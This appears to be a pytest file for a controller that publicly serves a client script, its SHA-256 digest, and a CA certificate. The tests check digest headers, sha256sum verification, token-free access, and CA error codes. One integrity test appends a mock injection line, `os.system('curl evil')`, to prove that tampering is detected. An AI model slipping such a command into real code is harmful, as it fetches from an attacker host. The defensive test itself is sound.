"""The pages every replica serves without a token: the `tau` client and its SHA-256."""

from __future__ import annotations

import base64
import hashlib
import pathlib
import subprocess

import pytest
from aiohttp import test_utils, web

from controller import pages, serving

TAU = pathlib.Path(__file__).resolve().parents[3] / "controller" / "assets" / "tau.py"


def _app() -> web.Application:
    app = web.Application()
    script, digest = pages.client_script()
    app.router.add_get("/tau", script)
    app.router.add_get("/tau.sha256", digest)
    return app


async def test_the_client_is_served_with_its_sha256_in_two_headers() -> None:
    """`X-Tau-SHA256` (hex) and `Repr-Digest` (RFC 9530) name the digest of the bytes sent."""
    async with test_utils.TestClient(test_utils.TestServer(_app())) as http:
        resp = await http.get("/tau")
        body = await resp.read()
        raw = hashlib.sha256(body).digest()
        expected = (TAU.read_bytes(), raw.hex(), f"sha-256=:{base64.b64encode(raw).decode()}:")
        actual = (body, resp.headers["X-Tau-SHA256"], resp.headers["Repr-Digest"])
    assert expected == actual


async def test_tau_sha256_checks_a_download_with_sha256sum(tmp_path: pathlib.Path) -> None:
    """`/tau.sha256` is in sha256sum's format: `sha256sum -c` accepts the served script beside
    it and refuses a changed one."""
    async with test_utils.TestClient(test_utils.TestServer(_app())) as http:
        (tmp_path / "tau").write_bytes(await (await http.get("/tau")).read())
        (tmp_path / "tau.sha256").write_bytes(await (await http.get("/tau.sha256")).read())

    def check() -> int:
        return subprocess.run(
            ["sha256sum", "-c", "tau.sha256"], cwd=tmp_path, capture_output=True, check=False
        ).returncode

    intact = check()
    with (tmp_path / "tau").open("ab") as f:
        f.write(b"\nimport os; os.system('curl evil')\n")
    expected = (0, 1)
    assert expected == (intact, check())


@pytest.mark.parametrize("path", ["/tau", "/tau.sha256"], ids=["the script", "its digest"])
async def test_the_client_and_its_digest_need_no_token(path: str) -> None:
    """Both are public: a researcher fetches them before having anything to send."""
    async with test_utils.TestClient(test_utils.TestServer(_app())) as http:
        status = (await http.get(path)).status
    expected = 200
    assert expected == status


# ---------------------------------------------------------------------- the CA
PEM_A = b"-----BEGIN CERTIFICATE-----\nMIIBfake-A\n-----END CERTIFICATE-----\n"
PEM_B = b"-----BEGIN CERTIFICATE-----\nMIIBfake-B\n-----END CERTIFICATE-----\n"


def _ca_app(ca_file: str) -> web.Application:
    app = web.Application(middlewares=[serving.make_middleware(5.0)])
    pages.add_routes(app, ca_file=ca_file)
    return app


async def test_the_ca_is_served_without_a_token_and_follows_a_rotation(
    tmp_path: pathlib.Path,
) -> None:
    """`GET /ca.crt` answers the bytes of the controller's CA file to a caller with no token,
    and a CA replaced on disk (cert-manager renewing it) is what the next request gets."""
    ca = tmp_path / "ca.crt"
    ca.write_bytes(PEM_A)
    async with test_utils.TestClient(test_utils.TestServer(_ca_app(str(ca)))) as http:
        first = await http.get("/ca.crt")
        first_body = await first.read()
        ca.write_bytes(PEM_B)
        second_body = await (await http.get("/ca.crt")).read()
    expected = (200, "application/x-pem-file", PEM_A, PEM_B)
    assert expected == (first.status, first.content_type, first_body, second_body)


@pytest.mark.parametrize(
    ("configured", "status", "code"),
    [("", 404, "NoCA"), ("missing/ca.crt", 503, "CAUnreadable")],
    ids=["a controller without a CA says it has none",
         "an unreadable CA file is a 503 naming the file, not a 500"],
)  # fmt: skip
async def test_without_a_readable_ca_the_answer_says_why(
    tmp_path: pathlib.Path, configured: str, status: int, code: str
) -> None:
    """No CA configured is a 404 that says so; a file that cannot be read now is a 503."""
    ca_file = str(tmp_path / configured) if configured else ""
    async with test_utils.TestClient(test_utils.TestServer(_ca_app(ca_file))) as http:
        resp = await http.get("/ca.crt")
        body = await resp.json()
    assert (resp.status, body["error"]["code"]) == (status, code)
